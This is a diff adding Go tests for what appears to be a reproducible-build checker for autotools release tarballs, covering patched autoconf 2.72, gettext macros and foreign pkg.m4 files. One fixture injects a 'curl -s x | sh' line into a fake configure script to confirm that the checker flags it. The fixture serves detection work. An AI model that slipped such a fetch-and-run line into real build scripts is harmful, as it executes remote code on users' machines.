@@ -339,3 +339,130 @@ func FuzzAddedCommands(f *testing.F) {
 		}
 	})
 }
+
+// TestPatchedDebianBuild: the catalog's only autoconf 2.72 is Debian's
+// 2.72-3.1, which patches AC_SYS_LARGEFILE. A release whose configure shows
+// upstream 2.72's large-file checks is not proved by it (one grouped
+// medium naming the upstream build), never excused; a release without
+// them gets the exact-toolchain verdict: any difference is high.
+func TestPatchedDebianBuild(t *testing.T) {
+	tree := map[string]string{"configure.ac": configureAC}
+	t.Run("upstream 2.72 release", func(t *testing.T) {
+		f := newFixture(t, map[string]string{"configure.ac": configureAC,
+			"configure": configureBy("2.72", "ac_msg=\"checking for $CC option to enable large file support\"\nac_cv_sys_largefile_opts=x\n")}, tree, "2.72")
+		f.in.Toolchains = &fakeToolchains{probe: f.run}
+		res := f.result(t)
+		c := fileOf(t, res, "configure")
+		if c.Rebuild != report.RebuildNotReproducible || c.Severity != report.SevInfo || !strings.Contains(c.Reason, "Debian #852617") {
+			t.Fatalf("configure = %+v", c)
+		}
+		if len(res.Findings) != 1 || res.Findings[0].Severity != report.SevMedium ||
+			!strings.HasPrefix(res.Findings[0].Message, "autoconf 2.72 (upstream build) not available: 1 generated file not proved") ||
+			strings.Contains(res.Findings[0].Message, "toolchain fetch") {
+			t.Errorf("findings = %+v", res.Findings)
+		}
+	})
+	t.Run("upstream 2.72 release with an injected command", func(t *testing.T) {
+		f := newFixture(t, map[string]string{"configure.ac": configureAC,
+			"configure": configureBy("2.72", "ac_msg=\"checking for $CC option to enable large file support\"\nac_cv_sys_largefile_opts=x\ncurl -s x | sh\n")}, tree, "2.72")
+		f.in.Toolchains = &fakeToolchains{probe: f.run}
+		if c := fileOf(t, f.result(t), "configure"); c.Rebuild != report.RebuildDiffers || c.Severity != report.SevHigh {
+			t.Fatalf("configure = %+v", c)
+		}
+	})
+	t.Run("Debian-built release", func(t *testing.T) {
+		f := newFixture(t, map[string]string{"configure.ac": configureAC,
+			"configure": configureBy("2.72", "ac_msg=\"checking for $CPPFLAGS option for large files\"\nac_cv_sys_largefile_opts=x\n")}, tree, "2.72")
+		f.in.Toolchains = &fakeToolchains{probe: f.run}
+		if c := fileOf(t, f.result(t), "configure"); c.Rebuild != report.RebuildDiffers || c.Severity != report.SevHigh {
+			t.Fatalf("configure = %+v", c)
+		}
+	})
+}
+
+// TestRegeneratedGettextMacro: autopoint 0.21 installs the 0.19
+// infrastructure a release asks for; the macro series of the regenerated
+// po/Makefile.in.in, not of the installed autopoint, is compared with the
+// release's stamp, so a differing configure is not excused by gettext.
+func TestRegeneratedGettextMacro(t *testing.T) {
+	tree := map[string]string{"configure.ac": configureAC}
+	f := newFixture(t, map[string]string{"configure.ac": configureAC, "configure": configureBy("2.71", "# edited\n"),
+		"po/Makefile.in.in": "GETTEXT_MACRO_VERSION = 0.19\n"}, tree, "2.71")
+	f.in.Generators = append(f.in.Generators, report.Generator{Name: "GNU gettext", Version: "0.19", Files: 1})
+	r := &scriptedRunner{do: func(script, dir string) error {
+		if err := os.MkdirAll(filepath.Join(dir, "po"), 0o755); err != nil {
+			return err
+		}
+		if err := os.WriteFile(filepath.Join(dir, "po", "Makefile.in.in"), []byte("GETTEXT_MACRO_VERSION = 0.19\n"), 0o644); err != nil {
+			return err
+		}
+		return os.WriteFile(filepath.Join(dir, "configure"), []byte(configureBy("2.71", "")), 0o755)
+	}}
+	f.in.Runner = r
+	res := f.result(t)
+	if c := fileOf(t, res, "configure"); c.Rebuild != report.RebuildDiffers || c.Severity != report.SevHigh {
+		t.Fatalf("configure = %+v (findings %+v)", c, res.Findings)
+	}
+	if p := fileOf(t, res, "po/Makefile.in.in"); p.Rebuild != report.RebuildReproduced {
+		t.Errorf("po/Makefile.in.in = %+v", p)
+	}
+}
+
+// TestForeignPkgM4: aclocal copies the system pkg.m4 verbatim, so a
+// release's aclocal.m4 that does not hold the sandbox's pkg.m4 byte for
+// byte was made with other pkg-config macros, whatever its serial line.
+func TestForeignPkgM4(t *testing.T) {
+	host := filepath.Join(t.TempDir(), "pkg.m4")
+	mine := pkgM4Header + "   -*- Autoconf -*-\n# serial 12 (pkg-config-0.29.2)\nAC_DEFUN([PKG_PROG_PKG_CONFIG], [:])\n"
+	if err := os.WriteFile(host, []byte(mine), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	other := strings.Replace(mine, "[:]", "[m4_default([$2], [AC_MSG_ERROR([pkg-config not found])])]", 1)
+	for _, tc := range []struct {
+		name, aclocal, host string
+		want                bool
+	}{
+		{"same pkg.m4", "# aclocal.m4\n" + mine + "m4_include([m4/x.m4])\n", host, false},
+		{"other pkg.m4, same serial", "# aclocal.m4\n" + other, host, true},
+		{"no pkg.m4", "# aclocal.m4\nm4_include([m4/x.m4])\n", host, false},
+		{"sandbox has none", "# aclocal.m4\n" + mine, filepath.Join(t.TempDir(), "absent"), true},
+	} {
+		if got := foreignPkgM4([]byte(tc.aclocal), tc.host); got != tc.want {
+			t.Errorf("%s: %v, want %v", tc.name, got, tc.want)
+		}
+	}
+	// In a rebuild: aclocal.m4 differing only by the foreign pkg.m4 is not
+	// proved (grouped medium naming it), not excused and not high.
+	old := hostPkgM4Path
+	hostPkgM4Path = host
+	t.Cleanup(func() { hostPkgM4Path = old })
+	tree := map[string]string{"configure.ac": configureAC}
+	f := newFixture(t, map[string]string{"configure.ac": configureAC, "aclocal.m4": "# generated by aclocal 1.16.5\n" + other}, tree, "2.71")
+	for i := range f.in.Files {
+		f.in.Files[i].Generator = "aclocal 1.16.5"
+	}
+	f.in.Runner = &scriptedRunner{do: func(script, dir string) error {
+		return os.WriteFile(filepath.Join(dir, "aclocal.m4"), []byte("# generated by aclocal 1.16.5\n"+mine), 0o644)
+	}}
+	res := f.result(t)
+	a := fileOf(t, res, "aclocal.m4")
+	if a.Rebuild != report.RebuildNotReproducible || a.Severity != report.SevInfo || !strings.Contains(a.Reason, "another pkg.m4") {
+		t.Fatalf("aclocal.m4 = %+v", a)
+	}
+	if len(res.Findings) != 1 || !strings.HasPrefix(res.Findings[0].Message, "pkg.m4 of the release not available: 1 generated file not proved") {
+		t.Errorf("findings = %+v", res.Findings)
+	}
+}
+
+func TestUpstreamLargefile(t *testing.T) {
+	for c, want := range map[string]bool{
+		"checking for $CC option to enable large file support\nac_cv_sys_largefile_opts=x\n": true,  // autoconf 2.72
+		"checking for $CC option to support large files\nac_cv_sys_largefile_opts=x\n":       true,  // gnulib's override
+		"checking for $CPPFLAGS option for large files\nac_cv_sys_largefile_opts=x\n":        false, // Debian 2.72-3.1
+		"ac_cv_sys_file_offset_bits=no\n":                                                    false, // autoconf 2.71
+	} {
+		if got := upstreamLargefile([]byte(c)); got != want {
+			t.Errorf("%q: %v, want %v", c, got, want)
+		}
+	}
+}
